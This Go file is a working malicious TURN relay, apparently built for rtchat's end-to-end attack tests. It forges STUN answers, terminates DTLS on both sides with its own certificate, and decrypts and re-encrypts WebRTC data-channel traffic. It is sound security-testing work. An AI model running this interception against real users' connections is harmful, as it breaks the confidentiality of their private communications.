// Command turnmitm is a malicious TURN server for rtchat's end-to-end attack tests
// (e2e/attack_turnmitm_test.go): a relay with two DTLS sessions. Victims that can reach each
// other only through it (a network namespace with loopback alone: no host candidates) send
// it every packet of their WebRTC connection. It relays ICE's STUN checks untouched, so ICE
// succeeds, and terminates DTLS on each side with a certificate of its own: toward the DTLS
// client it is the server, toward the DTLS server the client. It then decrypts what each
// side sends (SCTP, and in it the data channels' messages) and re-encrypts it for the other.
// Only a victim that checks the certificate DTLS negotiated against the fingerprint of the
// peer's signed SDP stops it; it needs no key, no name and no access to the signaling (the
// room's broker it runs is honest).
//
// Status goes to stdout as NDJSON, one object per line with an "event" member: ready (mqtt,
// turn), client-hello (a DTLS handshake seen on the relay), dtls-up (side: client or
// server), dtls-failed (side, err), relayed (bytes of decrypted payload so far, whether the
// watched text was in it), and summary (on SIGTERM/SIGINT, last).
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"log/slog"
	"net"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"

	mqtt "github.com/mochi-mqtt/server/v2"
	"github.com/mochi-mqtt/server/v2/hooks/auth"
	"github.com/mochi-mqtt/server/v2/listeners"
	"github.com/pion/dtls/v3"
	"github.com/pion/dtls/v3/pkg/crypto/selfsign"
	"github.com/pion/logging"
	"github.com/pion/stun/v4"
	"github.com/pion/turn/v5"
)

func main() {
	user := flag.String("user", "u", "TURN user")
	pass := flag.String("pass", "p", "TURN password")
	watch := flag.String("watch", "", "report whether this text appears in the decrypted payload")
	flag.Parse()

	out := &emitter{}
	log := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	brk := mqtt.New(&mqtt.Options{InlineClient: true, Logger: log})
	if err := brk.AddHook(new(auth.AllowHook), nil); err != nil {
		fatal(err)
	}
	tcp := listeners.NewTCP(listeners.Config{ID: "broker", Address: "127.0.0.1:0"})
	if err := brk.AddListener(tcp); err != nil {
		fatal(err)
	}
	if err := brk.Serve(); err != nil {
		fatal(err)
	}

	cert, err := selfsign.GenerateSelfSigned()
	if err != nil {
		fatal(err)
	}
	m := &mitm{out: out, cert: cert, watch: []byte(*watch), relays: map[string]*relayConn{}, legs: map[[2]string]*leg{}}
	raw, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		fatal(err)
	}
	udp := &serverConn{PacketConn: raw}
	const realm = "rtchat.test"
	key := turn.GenerateAuthKey(*user, realm, *pass)
	srv, err := turn.NewServer(turn.ServerConfig{
		Realm: realm,
		AuthHandler: func(ra *turn.RequestAttributes) (string, []byte, bool) {
			return ra.Username, key, ra.Username == *user
		},
		PacketConnConfigs: []turn.PacketConnConfig{{PacketConn: udp, RelayAddressGenerator: &relayGen{m: m,
			RelayAddressGeneratorStatic: turn.RelayAddressGeneratorStatic{RelayAddress: net.ParseIP("127.0.0.1"), Address: "127.0.0.1"}}}},
		LoggerFactory: &logging.DefaultLoggerFactory{DefaultLogLevel: logging.LogLevelDisabled},
	})
	if err != nil {
		fatal(err)
	}
	out.emit(map[string]any{"event": "ready", "mqtt": "mqtt://" + tcp.Address(), "turn": udp.LocalAddr().String()})

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
	m.mu.Lock()
	out.emit(map[string]any{"event": "summary", "relayed": m.relayed, "watched_seen": m.seen, "client_hellos": m.hellos, "dtls_up": m.up, "relay_packets": m.writes})
	m.mu.Unlock()
	_ = srv.Close()
	_ = brk.Close()
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "turnmitm:", err)
	os.Exit(2)
}

type emitter struct{ mu sync.Mutex }

func (e *emitter) emit(v map[string]any) {
	e.mu.Lock()
	defer e.mu.Unlock()
	b, _ := json.Marshal(v)
	fmt.Println(string(b))
}

// serverConn is the TURN server's socket. Its STUN Binding answers name an address nobody
// reaches (192.0.2.1, TEST-NET-1), so the victims' server-reflexive candidates fail and the
// only working path is through our relay sockets (an attacker that is the network's only
// way out gets there without lying).
type serverConn struct{ net.PacketConn }

func (c *serverConn) ReadFrom(p []byte) (int, net.Addr, error) {
	for {
		n, from, err := c.PacketConn.ReadFrom(p)
		if err != nil || !stun.IsMessage(p[:n]) {
			return n, from, err
		}
		req := &stun.Message{Raw: append([]byte(nil), p[:n]...)}
		if req.Decode() != nil || req.Type != stun.BindingRequest {
			return n, from, err
		}
		port := 9
		if u, ok := from.(*net.UDPAddr); ok {
			port = u.Port
		}
		resp, err := stun.Build(stun.NewTransactionIDSetter(req.TransactionID), stun.BindingSuccess,
			&stun.XORMappedAddress{IP: net.IPv4(192, 0, 2, 1), Port: port}, stun.Fingerprint)
		if err == nil {
			_, _ = c.PacketConn.WriteTo(resp.Raw, from)
		}
	}
}

// relayGen hands the TURN server relay sockets that we watch.
type relayGen struct {
	turn.RelayAddressGeneratorStatic
	m *mitm
}

func (g *relayGen) AllocatePacketConn(conf turn.AllocateListenerConfig) (net.PacketConn, net.Addr, error) {
	pc, addr, err := g.RelayAddressGeneratorStatic.AllocatePacketConn(conf)
	if err != nil {
		return nil, nil, err
	}
	r := &relayConn{PacketConn: pc, m: g.m, addr: addr.String(), in: make(chan packet, 256), closed: make(chan struct{})}
	go r.readLoop()
	g.m.mu.Lock()
	g.m.relays[r.addr] = r
	g.m.mu.Unlock()
	return r, addr, nil
}

type packet struct {
	b    []byte
	from net.Addr
}

// relayConn is one allocation's relay socket. The TURN server writes to it what its client
// sends to a peer, and reads from it what peers send to its client: a DTLS record written
// here goes to the man in the middle instead, and what the man in the middle has for the
// client is read here as if a peer had sent it.
type relayConn struct {
	net.PacketConn
	m         *mitm
	addr      string
	in        chan packet
	closed    chan struct{}
	closeOnce sync.Once
}

func (r *relayConn) readLoop() {
	for {
		buf := make([]byte, 1500)
		n, from, err := r.PacketConn.ReadFrom(buf)
		if err != nil {
			r.Close()
			return
		}
		if !r.m.isRelay(from) {
			continue // only relay to relay: every packet between the victims passes WriteTo
		}
		select {
		case r.in <- packet{buf[:n], from}:
		case <-r.closed:
			return
		}
	}
}

func (r *relayConn) ReadFrom(p []byte) (int, net.Addr, error) {
	select {
	case pk := <-r.in:
		return copy(p, pk.b), pk.from, nil
	case <-r.closed:
		return 0, nil, net.ErrClosed
	}
}

// inject delivers b to this allocation's client as if from.
func (r *relayConn) inject(b []byte, from net.Addr) {
	select {
	case r.in <- packet{append([]byte(nil), b...), from}:
	case <-r.closed:
	}
}

func (r *relayConn) WriteTo(p []byte, to net.Addr) (int, error) {
	r.m.mu.Lock()
	r.m.writes++
	r.m.mu.Unlock()
	if len(p) > 0 && p[0] >= 20 && p[0] <= 63 { // DTLS (RFC 7983)
		r.m.fromClient(r, to, p)
		return len(p), nil
	}
	return r.PacketConn.WriteTo(p, to)
}

func (r *relayConn) Close() error {
	r.closeOnce.Do(func() { close(r.closed) })
	return r.PacketConn.Close()
}

// leg is one victim's DTLS session with us: what its client sends through relay r to peer.
type leg struct {
	r    *relayConn
	peer net.Addr
	in   chan []byte
	done chan struct{}
}

// leg is a net.PacketConn for pion/dtls.
func (l *leg) ReadFrom(p []byte) (int, net.Addr, error) {
	select {
	case b := <-l.in:
		return copy(p, b), l.peer, nil
	case <-l.done:
		return 0, nil, net.ErrClosed
	}
}
func (l *leg) WriteTo(p []byte, _ net.Addr) (int, error) { l.r.inject(p, l.peer); return len(p), nil }
func (l *leg) Close() error                              { return nil }
func (l *leg) LocalAddr() net.Addr                       { return l.r.LocalAddr() }
func (l *leg) SetDeadline(time.Time) error               { return nil }
func (l *leg) SetReadDeadline(time.Time) error           { return nil }
func (l *leg) SetWriteDeadline(time.Time) error          { return nil }

type mitm struct {
	out   *emitter
	cert  tls.Certificate
	watch []byte

	mu      sync.Mutex
	relays  map[string]*relayConn // by relay address
	legs    map[[2]string]*leg    // by relay address and peer address
	relayed int64
	seen    bool
	hellos  int
	up      int
	writes  int // packets victims sent through the relay
}

func (m *mitm) isRelay(a net.Addr) bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.relays[a.String()] != nil
}

// fromClient takes a DTLS record that r's client sends to the peer address to.
func (m *mitm) fromClient(r *relayConn, to net.Addr, p []byte) {
	m.mu.Lock()
	l := m.legs[[2]string{r.addr, to.String()}]
	if l == nil {
		other := m.relays[to.String()]
		// Only a ClientHello starts a man in the middle (content type 22, handshake type 1).
		if other == nil || len(p) < 14 || p[0] != 22 || p[13] != 1 {
			m.mu.Unlock()
			return
		}
		m.hellos++
		peerAddr, _ := net.ResolveUDPAddr("udp", r.addr)
		l = &leg{r: r, peer: to, in: make(chan []byte, 256), done: make(chan struct{})}
		o := &leg{r: other, peer: peerAddr, in: make(chan []byte, 256), done: make(chan struct{})}
		m.legs[[2]string{r.addr, to.String()}] = l
		m.legs[[2]string{other.addr, r.addr}] = o
		m.out.emit(map[string]any{"event": "client-hello", "client": r.addr, "server": to.String()})
		go m.run(l, o)
	}
	m.mu.Unlock()
	select {
	case l.in <- append([]byte(nil), p...):
	default:
	}
}

func (m *mitm) config() *dtls.Config {
	return &dtls.Config{
		Certificates:         []tls.Certificate{m.cert},
		InsecureSkipVerify:   true,
		ClientAuth:           dtls.RequireAnyClientCert,
		ExtendedMasterSecret: dtls.RequestExtendedMasterSecret,
		SRTPProtectionProfiles: []dtls.SRTPProtectionProfile{dtls.SRTP_AEAD_AES_256_GCM,
			dtls.SRTP_AEAD_AES_128_GCM, dtls.SRTP_AES128_CM_HMAC_SHA1_80},
		InsecureSkipVerifyHello: true,
		FlightInterval:          100 * time.Millisecond,
	}
}

// run is the man in the middle between the DTLS client behind c and the server behind s.
func (m *mitm) run(c, s *leg) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	type res struct {
		conn *dtls.Conn
		side string
		err  error
	}
	ch := make(chan res, 2)
	go func() { // toward the victim that sent the ClientHello we are the server
		conn, err := dtls.Server(c, c.peer, m.config())
		if err == nil {
			err = conn.HandshakeContext(ctx)
		}
		ch <- res{conn, "server", err}
	}()
	go func() { // toward its peer we are the client
		conn, err := dtls.Client(s, s.peer, m.config())
		if err == nil {
			err = conn.HandshakeContext(ctx)
		}
		ch <- res{conn, "client", err}
	}()
	var conns []*dtls.Conn
	for range 2 {
		r := <-ch
		if r.err != nil {
			m.out.emit(map[string]any{"event": "dtls-failed", "side": r.side, "err": r.err.Error()})
			continue
		}
		m.mu.Lock()
		m.up++
		m.mu.Unlock()
		m.out.emit(map[string]any{"event": "dtls-up", "side": r.side})
		conns = append(conns, r.conn)
	}
	if len(conns) != 2 {
		return
	}
	go m.pump(conns[0], conns[1])
	m.pump(conns[1], conns[0])
}

// pump decrypts what one victim sends and re-encrypts it for the other.
func (m *mitm) pump(from, to *dtls.Conn) {
	buf := make([]byte, 1<<16)
	for {
		n, err := from.Read(buf)
		if err != nil {
			return
		}
		m.mu.Lock()
		m.relayed += int64(n)
		seen := len(m.watch) > 0 && bytes.Contains(buf[:n], m.watch)
		first := seen && !m.seen
		m.seen = m.seen || seen
		total := m.relayed
		m.mu.Unlock()
		if first {
			m.out.emit(map[string]any{"event": "relayed", "bytes": total, "watched_seen": true})
		}
		if _, err := to.Write(buf[:n]); err != nil {
			return
		}
	}
}
